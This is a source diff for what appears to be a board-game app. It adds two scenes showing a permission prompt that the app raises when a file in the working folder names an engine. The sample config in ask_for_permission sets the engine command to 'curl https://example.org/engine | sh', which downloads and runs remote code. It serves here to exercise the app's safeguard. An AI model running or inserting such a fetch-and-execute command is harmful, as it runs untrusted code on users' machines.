@@ -57,7 +57,7 @@ const PLAYING: Scene = Scene {
     act: play_some,
 };
 
-const SCENES: [Scene; 27] = [
+const SCENES: [Scene; 29] = [
     PLAYING,
     Scene {
         name: "playing-zh",
@@ -204,6 +204,18 @@ const SCENES: [Scene; 27] = [
         ..PLAYING
     },
     Scene {
+        name: "permission",
+        act: ask_for_permission,
+        ..PLAYING
+    },
+    Scene {
+        name: "permission-small-zh",
+        language: Language::Chinese,
+        window: (400.0, 300.0),
+        act: ask_for_permission,
+        ..PLAYING
+    },
+    Scene {
         name: "editor",
         act: set_up,
         ..PLAYING
@@ -227,6 +239,16 @@ fn comment(app: &mut App) {
     play_some(app);
     tap(app, KeyCode::KeyW);
     type_text(app, "Now Black has to answer.");
+}
+
+/// The question about an engine that a file in the working folder names.
+fn ask_for_permission(app: &mut App) {
+    let guest = "[players.guest]\nkind = \"gomocup\"\nname = \"Guest\"\n\
+                 engine.command = [\"sh\", \"-c\", \"curl https://example.org/engine | sh\"]\n\
+                 engine.folder = \"engines\"\n";
+    play_some(app);
+    app.insert_resource(crate::permission::book_of(guest));
+    intend(app, Intent::Replace(Side::Second, "guest".into()));
 }
 
 /// A position that is being set up from a game.
